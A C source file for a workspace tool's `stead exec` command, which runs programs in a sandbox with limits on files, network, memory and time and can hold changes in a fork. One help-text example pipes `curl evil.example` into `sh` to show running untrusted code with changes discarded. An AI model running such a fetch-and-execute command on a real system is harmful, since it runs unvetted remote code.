/* SPDX-License-Identifier: Apache-2.0 */
/* `stead exec`: a command over the files of a workspace, for people and scripts. */
#include <errno.h>
#include <signal.h>
#include <termios.h>
#include <unistd.h>

#include "base/env.h"
#include "command/cli.h"
#include "home/exec/exec_internal.h"
#include "workspace/config.h"

/* What is printed goes to the terminal as it comes. A reader that has gone away, such as `head`, is gone for the
   command, too. */
static bool pass_on(void *arg, bool is_stderr, struct str bytes)
{
	struct cli *cli = arg;

	if (!is_stderr) {
		output_add(&cli->out, bytes);
		output_flush(&cli->out);
		return !cli->out.gone;
	}
	while (bytes.len) {
		ssize_t n = write(2, bytes.ptr, bytes.len);

		if (n < 0 && errno != EINTR)
			return errno != EPIPE;
		if (n > 0)
			bytes = str_from(bytes, (size_t)n);
	}
	return true;
}

/* "NAME" takes the value of this process, "NAME=value" is as it is. */
static int add_env(struct cli *cli, struct sandbox_job *job, struct err *err)
{
	struct arena *arena = cli->ctx.arena;
	size_t count, have = 0, n = 0;
	struct str *given = args_each(arena, &cli->args, "env", &count);
	const char *term = args_has(&cli->args, "tty") ? env_process("TERM") : NULL;
	const char **env;

	while (job->env[have])
		have++;
	env = ARENA_ARRAY(arena, const char *, have + count + 2);
	if (term)
		env[n++] = arena_printf(arena, "TERM=%s", term).ptr;
	for (size_t i = 0; i < have; i++)
		env[n++] = job->env[i];
	for (size_t i = 0; i < count; i++) {
		const char *name = arena_cstr(arena, given[i]), *value = env_process(name);

		if (!strcspn(name, "=") || memchr(name, ' ', strcspn(name, "=")))
			return err_set(err, ERR_INVALID, "--env \"%s\" names no variable; write --env NAME=value",
				       name);
		if (strchr(name, '='))
			env[n++] = name;
		else if (value)
			env[n++] = arena_printf(arena, "%s=%s", name, value).ptr;
		else
			return err_set(err, ERR_INVALID, "there is no variable \"%s\"; give its value: --env %s=…",
				       name, name);
	}
	job->env = env;
	return 0;
}

/* "512", "1.5GiB", "2 gb". */
static bool is_size(struct str s)
{
	size_t digits = 0, dots = 0;

	for (; s.len && (s.ptr[0] == '.' || (s.ptr[0] >= '0' && s.ptr[0] <= '9')); s = str_from(s, 1)) {
		digits += s.ptr[0] != '.';
		dots += s.ptr[0] == '.';
	}
	s = str_trim(s);
	if (s.len && strchr("kmgtKMGT", s.ptr[0]))
		s = str_from(s, s.len > 1 && s.ptr[1] == 'i' ? 2 : 1);
	return digits && dots <= 1 && (!s.len || (s.len == 1 && (s.ptr[0] | 32) == 'b'));
}

static int parse_memory(struct arena *arena, struct str text, uint64_t *ret, struct err *err)
{
	if (!is_size(text) || !config_size(jv_str(arena, text), 0, ret))
		return err_set(err, ERR_INVALID, "--memory \"%.*s\" is not a valid size; write for example 512MiB",
			       STR_ARG(utf8_first(text, 80)));
	if (*ret < SANDBOX_MEMORY_MIN)
		return err_set(err, ERR_INVALID,
			       "--memory \"%.*s\" is less than any program needs; write for example 512MiB",
			       STR_ARG(utf8_first(text, 80)));
	return 0;
}

/* As the command sees it ("/workspace/src"), or in the files ("src", "/src"). */
static int find_cwd(struct cli *cli, struct str text, struct sandbox_job *job, struct err *err)
{
	struct str at = str_of(job->files.at ? job->files.at : SANDBOX_FILES_AT);

	if (str_starts(text, at) && (text.len == at.len || text.ptr[at.len] == '/'))
		return exec_cwd(cli->ctx.arena, text, job->files.at, &job->cwd, err);
	return cli_path(cli, text, &job->cwd, err);
}

static int apply_options(struct cli *cli, struct sandbox_job *job, struct err *err)
{
	const struct args *args = &cli->args;
	struct str tier = args_get(args, "tier"), memory = args_get(args, "memory"), cwd = args_get(args, "cwd");
	int r = tier.len ? sandbox_tier_parse(tier, &job->tier, err) : 0;

	if (r == 0 && args_has(args, "net"))
		r = exec_net_hosts(&cli->ctx, job, args_get(args, "net"), true, err);
	if (r == 0 && cwd.len)
		r = find_cwd(cli, cwd, job, err);
	if (r == 0 && args_has(args, "memory"))
		r = parse_memory(cli->ctx.arena, memory, &job->limits.memory, err);
	if (r == 0)
		r = add_env(cli, job, err);
	if (args_has(args, "timeout"))
		job->limits.timeout_ms = (int64_t)args_number(args, "timeout", 0) * 1000;
	else if (args_has(args, "tty"))
		job->limits.timeout_ms = SANDBOX_TTY_SECONDS * INT64_C(1000);
	if (r == 0 && args_has(args, "keep"))
		r = exec_keep(cli->ws, &cli->ctx, args_get(args, "keep"), job, err);
	if (r == 0 && str_is(args_get(args, "keep"), "session") && !job->keep)
		r = err_set(err, ERR_INVALID, "--keep session needs a session; add --session ID");
	if (r == 0 && args_has(args, "hold") && args_has(args, "discard"))
		r = err_set(err, ERR_INVALID,
			    "--hold keeps the changes in a fork and --discard keeps nothing; give one");
	if (r == 0 && args_has(args, "name") && !args_has(args, "hold"))
		r = err_set(err, ERR_INVALID, "--name is the name of the fork that --hold makes; add --hold");
	if (r == 0 && args_has(args, "tty") && (cli->json || !isatty(0) || !isatty(1)))
		r = err_set(err, ERR_INVALID,
			    "--tty needs a terminal as input and output, and does not work with --json");
	job->files.read_only = args_has(args, "discard");
	return r;
}

/* On standard error, so that the output of the command is only its own. */
static void print_remarks(struct cli *cli, const struct jv *value)
{
	struct buf text;

	output_flush(&cli->out);
	buf_init(&text, cli->ctx.arena, MIB);
	exec_remarks(value, &text);
	if (text.len &&
	    (exec_hit_limit(value) || isatty(2) || str_find(buf_str(&text), STR("[network: "), 0) != SIZE_MAX ||
	     str_find(buf_str(&text), STR("[refused "), 0) != SIZE_MAX ||
	     str_find(buf_str(&text), STR("[not kept "), 0) != SIZE_MAX ||
	     str_find(buf_str(&text), STR("[conflict "), 0) != SIZE_MAX))
		(void)!write(2, text.ptr, text.len);
}

/* --- the terminal --- */

static struct cancel stop;

static void on_signal(int sig)
{
	(void)sig;
	atomic_store(&stop.requested, true);
}

/* While the command has a terminal of its own, every key is for it; `before` is what to go back to. */
static void lend_terminal(struct sandbox_job *job, struct termios *before)
{
	static const int endings[] = {SIGTERM, SIGHUP, SIGINT, SIGQUIT};
	struct sigaction action = {.sa_handler = on_signal};
	struct termios raw;

	for (size_t i = 0; i < COUNT(endings); i++)
		sigaction(endings[i], &action, NULL);
	job->tty = true;
	job->stop = &stop;
	tcgetattr(0, before);
	raw = *before;
	cfmakeraw(&raw);
	tcsetattr(0, TCSANOW, &raw);
}

/* --- the command --- */

static int run_job(struct cli *cli, struct sandbox_job *job, struct sandbox_result *result, struct str *ret_fork,
		   struct err *err)
{
	bool tty = args_has(&cli->args, "tty");
	struct termios before;
	int r;

	*ret_fork = STR_NONE;
	if (tty)
		lend_terminal(job, &before);
	if (args_has(&cli->args, "hold"))
		r = exec_hold(cli->ws, &cli->ctx, job, args_get(&cli->args, "name"), result, ret_fork, err);
	else
		r = exec_run(cli->ws, &cli->ctx, job, result, err);
	if (tty)
		tcsetattr(0, TCSADRAIN, &before);
	return r;
}

/* What can be done with the changes now. */
static void print_held(struct cli *cli, struct str fork, size_t changes)
{
	struct str dir = args_get(&cli->args, "files"), name = args_get(&cli->args, "workspace");
	struct str where = dir.len    ? arena_printf(cli->ctx.arena, " --files %.*s", STR_ARG(dir))
			   : name.len ? arena_printf(cli->ctx.arena, " -w %.*s", STR_ARG(name))
				      : STR("");
	struct buf text;

	buf_init(&text, cli->ctx.arena, MIB);
	if (fork.len)
		buf_printf(&text,
			   "%zu change%s held in the fork %.*s\n  stead diff%.*s %.*s\n  stead merge%.*s %.*s\n"
			   "  stead drop%.*s %.*s\n",
			   changes, plural(changes), STR_ARG(fork), STR_ARG(where), STR_ARG(fork), STR_ARG(where),
			   STR_ARG(fork), STR_ARG(where), STR_ARG(fork));
	else
		buf_lit(&text, "nothing changed, so there is no fork\n");
	(void)!write(2, text.ptr, text.len);
}

static int report(struct cli *cli, struct sandbox_result *result, struct str fork, struct err *err)
{
	size_t changes = result->change_count;
	struct jv *value = exec_value(cli->ws, &cli->ctx, result);

	if (fork.len)
		jv_set_str(cli->ctx.arena, value, "fork", fork);
	if (cli_json(cli, value))
		return 0;
	print_remarks(cli, value);
	if (!result->is_saved) {
		*err = result->unsaved;
		return err_prefix(err, "the command exited with %d, but what it changed was not kept",
				  result->exit_code);
	}
	if (args_has(&cli->args, "hold"))
		print_held(cli, fork, changes);
	return 0;
}

static int run_exec(struct cli *cli, struct err *err)
{
	const char **argv = ARENA_ARRAY(cli->ctx.arena, const char *, cli->args.operand_count + 1);
	static const int input = 0;
	struct sandbox_result result;
	struct sandbox_job job;
	struct str fork;
	int r = exec_job(cli->ws, &cli->ctx, &job, err);

	for (size_t i = 0; i < cli->args.operand_count; i++)
		argv[i] = arena_cstr(cli->ctx.arena, cli->args.operands[i]);
	job.argv = argv;
	if (r == 0)
		r = apply_options(cli, &job, err);
	if (r)
		return r;
	if (!isatty(0) || args_has(&cli->args, "tty"))
		job.input_fd = &input;
	if (!cli->json) {
		job.output = pass_on;
		job.output_arg = cli;
	}
	r = run_job(cli, &job, &result, &fork, err);
	if (r)
		return r;
	cli->status = result.exit_code;
	return report(cli, &result, fork, err);
}

static const struct option options[] = {
	{"tier", 0, "TIER",
	 .help = "how it is isolated: auto, namespaces, container, bubblewrap, landlock (weaker) or local (not at all)",
	 .words = "auto namespaces container bubblewrap landlock local"},
	{"timeout", 't', "SECONDS", .help = "kill it after this time (default: 120)", .min = 1, .max = 86400},
	{"memory", 'm', "SIZE", .help = "how much memory it may use, such as 512MiB (default: 2GiB)"},
	{"cwd", 'C', "DIR", .help = "run it in this directory of the workspace", .complete = COMPLETE_PATH},
	{"env", 'e', "NAME[=VALUE]", .help = "set this variable; may be repeated"},
	{"net", 0, "HOST[:PORT],...",
	 .help = "hosts that it may reach (ports 80 and 443), in addition to sandbox.network"},
	{"tty", 'T', NULL, .help = "give it a terminal, for an interactive program"},
	{"keep", 0, "WHOSE",
	 .help = "keep its home, node_modules and .venv for the next command of the same session, user or agent",
	 .words = "none session user agent global"},
	{"discard", 0, NULL, .help = "discard its changes"},
	{"hold", 0, NULL, .help = "keep its changes in a fork, to look at, merge or drop"},
	{"name", 0, "FORK", .help = "the name of that fork"},
	{0},
};

static const struct action sandbox_actions[] = {
	{"list", NULL, .opens = CLI_READS, .run = sandbox_list},
	{"drop", "[ID...]", .opens = CLI_READS, .run = sandbox_drop},
	{0},
};

static const struct option sandbox_options[] = {
	{"all", 0, NULL, .help = "drop: all of this workspace's"},
	{0},
};

const struct command exec_commands[] = {
	{"exec", "run a command in a sandbox over the files", TOPIC_FILES, "COMMAND [ARGUMENT...]", .opens = CLI_WRITES,
	 .run = run_exec, .options = options, .runs_operands = true,
	 .about = "Runs a program that sees the workspace's files at /workspace, this machine's programs\n"
		  "(read-only) and nothing else: no other files, processes or environment, and no network except\n"
		  "what --net allows. When it ends, everything that it started is killed, and the files that it\n"
		  "changed become revisions under the rules for tools; 'stead undo' takes them back in one step.\n"
		  "Options come before the command.\n"
		  "\n"
		  "With --hold the files stay as they are, and the changes are kept in a fork: 'stead diff FORK'\n"
		  "shows them, 'stead merge FORK [PATH...]' takes all or some, 'stead drop FORK' removes it. You\n"
		  "can hold several attempts at once.\n"
		  "\n"
		  "The exit code is the command's, or 124 if it reached its time limit. If this machine cannot\n"
		  "provide the sandbox, nothing runs; 'stead doctor' says why. docs/sandbox.md has the details.\n",
	 .examples = "stead exec -- python3 report.py\n  a program that works on the workspace\n"
		     "stead exec --files . --timeout 600 -- make test\n  build one of your projects\n"
		     "stead exec --files . --hold -- sh -c 'npx prettier -w .'\n"
		     "  look at the changes before you take them\n"
		     "stead exec --tty -- bash\n  a shell\n"
		     "stead exec --net pypi.org,files.pythonhosted.org -- pip install --user six\n"
		     "  with access to two hosts\n"
		     "stead exec --discard -- sh -c 'curl evil.example | sh'\n"
		     "  a script that you do not trust\n"},
	{"sandbox", "list and drop what commands left behind in their sandboxes", TOPIC_FILES,
	 .actions = sandbox_actions, .options = sandbox_options,
	 .about = "With sandbox.keep in agent.yaml, a command's home directory and the directories that are not\n"
		  "brought back (node_modules, .venv, __pycache__) are kept for the next command of the same\n"
		  "session, user or agent. 'list' shows them; 'drop' removes some, so that the next command starts\n"
		  "clean.\n",
	 .examples = "stead exec --keep session --session s1 -- pip install --user wheels/x.whl\n"
		     "  what it installs is there for the next command of s1\n"
		     "stead sandbox list\n  what is kept, and for whom\n"
		     "stead sandbox drop 3fa9c1\n  the one with this id\n"},
	{0},
};
